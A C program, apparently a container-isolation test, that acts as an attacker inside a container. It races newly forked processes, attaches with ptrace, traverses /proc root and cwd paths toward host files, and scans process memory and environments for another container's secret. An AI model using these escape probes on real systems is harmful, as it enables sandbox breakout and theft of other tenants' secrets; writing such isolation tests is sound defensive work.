/*
 * A container's process that wants what is the host's: for every process that appears in its pid namespace it tries root, working
 * directory, descriptors, memory, arguments and rights, half of the time as fast as it can, half by stopping it first (PTRACE_SEIZE).
 *
 *   attacker SECONDS MARKER PLACE SECRET NULL_DEV:NULL_INO
 *
 * MARKER is a path (without its first slash) that only the host has, PLACE a part of the supervisor's paths there, SECRET something that
 * another container had in its environment. Says `HIT ...` for each success, and at the end `seen N caught N hits N`: processes met,
 * and those of them met before their execve.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../"
enum { HITS_MAX = 10, AHEAD = 12, PATIENCE = 20 }; /* seconds more, where nobody was met early enough */

static const char *marker, *place, *secret;
static unsigned long long null_dev, null_ino;
static long seen, caught, hits;
static char own_status[4096];

static void hit(int pid, const char *what, const char *detail)
{
	printf("HIT %s of %d: %s\n", what, pid, detail);
	fflush(stdout);
	hits++;
}

static int read_text(int pid, const char *name, char *to, int size)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, O_RDONLY | O_CLOEXEC), length = fd < 0 ? -1 : (int)read(fd, to, (size_t)size - 1);
	if (fd >= 0) close(fd);
	to[length > 0 ? length : 0] = 0;
	return length;
}

static void try_directory(int pid, const char *name)
{
	char path[64], up[4200];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0) return;
	snprintf(up, sizeof up, UP "%s", marker);
	for (int i = 0; i < 2; i++) {
		int file = openat(fd, i ? up : marker, O_RDONLY | O_CLOEXEC);
		if (file < 0) continue;
		hit(pid, name, "the host's file was opened");
		close(file);
		break;
	}
	close(fd);
}

static void try_descriptors(int pid)
{
	char path[64], target[300], name[600];
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *directory = opendir(path);
	if (!directory) return;
	for (struct dirent *entry; (entry = readdir(directory));) {
		struct stat status;
		if (entry->d_name[0] == '.') continue;
		ssize_t length = readlinkat(dirfd(directory), entry->d_name, target, sizeof target - 1);
		if (length < 0) continue;
		target[length] = 0;
		snprintf(name, sizeof name, "%s -> %s", entry->d_name, target);
		if (strstr(target, place)) hit(pid, "descriptor", name);
		if (fstatat(dirfd(directory), entry->d_name, &status, 0)) continue;
		if (status.st_dev == null_dev && status.st_ino == null_ino) hit(pid, "descriptor", "the host's /dev/null");
		if (S_ISDIR(status.st_mode)) hit(pid, "descriptor", name);
		if (atoi(entry->d_name) > 3) hit(pid, "descriptor", name);
	}
	closedir(directory);
}

static void try_memory(int pid)
{
	static char maps[16384], chunk[1 << 16];
	char path[64];
	size_t wanted = strlen(secret);
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int memory = open(path, O_RDONLY | O_CLOEXEC);
	if (memory < 0) return;
	read_text(pid, "maps", maps, sizeof maps);
	for (char *line = maps; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
		unsigned long start, end;
		if (sscanf(line, "%lx-%lx", &start, &end) != 2) continue;
		for (unsigned long at = start; at < end; at += sizeof chunk) {
			ssize_t got = pread(memory, chunk, end - at < sizeof chunk ? end - at : sizeof chunk, (off_t)at);
			if (got > 0 && memmem(chunk, (size_t)got, secret, wanted)) hit(pid, "memory", strtok(line, "\n"));
		}
	}
	close(memory);
}

static unsigned long long field(const char *status, const char *name, int base)
{
	const char *at = strstr(status, name);
	return at ? strtoull(at + strlen(name), NULL, base) : 0;
}

static void try_rights(int pid)
{
	static const char *const sets[] = { "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:" };
	char status[4096], text[100];
	if (read_text(pid, "status", status, sizeof status) <= 0) return;
	unsigned long long own = field(own_status, "CapBnd:", 16);
	for (int i = 0; i < 5; i++) {
		unsigned long long theirs = field(status, sets[i], 16);
		snprintf(text, sizeof text, "%s %llx where the container may have %llx", sets[i], theirs, own);
		if (theirs & ~own) hit(pid, "rights", text);
	}
	if (!field(status, "Seccomp:", 10) && field(own_status, "Seccomp:", 10)) hit(pid, "rights", "no seccomp filter");
	if (field(status, "NoNewPrivs:", 10) < field(own_status, "NoNewPrivs:", 10)) hit(pid, "rights", "may gain privileges");
}

static void try_texts(int pid)
{
	char text[4096];
	for (int i = 0; i < 2; i++) {
		int length = read_text(pid, i ? "environ" : "cmdline", text, sizeof text);
		if (length <= 0) continue;
		if (memmem(text, (size_t)length, place, strlen(place)) || memmem(text, (size_t)length, secret, strlen(secret))) hit(pid, i ? "environment" : "arguments", text);
	}
}

static void try_everything(int pid)
{
	try_directory(pid, "root");
	try_directory(pid, "cwd");
	try_descriptors(pid);
	try_rights(pid);
	try_texts(pid);
	try_memory(pid);
}

/* Is it still what the supervisor forked? Its name is, until execve. */
static int is_early(int pid)
{
	char name[32];
	return read_text(pid, "comm", name, sizeof name) > 0 && strncmp(name, "podwright", 9) == 0;
}

static int stop_and_try(int pid)
{
	int status;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return errno != ESRCH;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		if (is_early(pid)) {
			caught++;
			try_everything(pid);
		}
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	return 1;
}

static int rush(int pid)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/root", pid);
	int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC), error = errno;
	if (fd < 0) return error != ENOENT;
	int early = is_early(pid), file = openat(fd, marker, O_RDONLY | O_CLOEXEC);
	if (file >= 0) hit(pid, "root", "the host's file was opened"), close(file);
	close(fd);
	if (!early) return 1;
	try_directory(pid, "cwd");
	try_texts(pid);
	try_rights(pid);
	caught++;
	return 1;
}

static int last_pid(int known)
{
	FILE *file = fopen("/proc/loadavg", "r");
	int last = 0;
	if (!file) return known;
	if (fscanf(file, "%*s %*s %*s %*s %d", &last) != 1) last = 0;
	fclose(file);
	return last > known ? last : known;
}

int main(int argc, char **argv)
{
	if (argc < 6 || sscanf(argv[5], "%llu:%llu", &null_dev, &null_ino) != 2) return 2;
	time_t end = time(NULL) + atoi(argv[1]);
	marker = argv[2];
	place = argv[3];
	secret = argv[4];
	read_text(getpid(), "status", own_status, sizeof own_status);
	int last = getpid();
	for (int pid = 1; pid < last; pid++) {
		char name[32];
		if (read_text(pid, "comm", name, sizeof name) > 0 && strncmp(name, "pause", 5) == 0) try_everything(pid);
	}
	puts("ready");
	fflush(stdout);
	for (long round = 0; (time(NULL) < end || (!caught && time(NULL) < end + PATIENCE)) && hits < HITS_MAX; round++) {
		for (int pid = last + 1; pid < last + AHEAD; pid++) {
			if (pid % 2 ? rush(pid) : stop_and_try(pid)) seen++, last = pid;
		}
		if (round % 2000 == 0) last = last_pid(last);
	}
	printf("seen %ld caught %ld hits %ld\n", seen, caught, hits);
	return hits > 0;
}
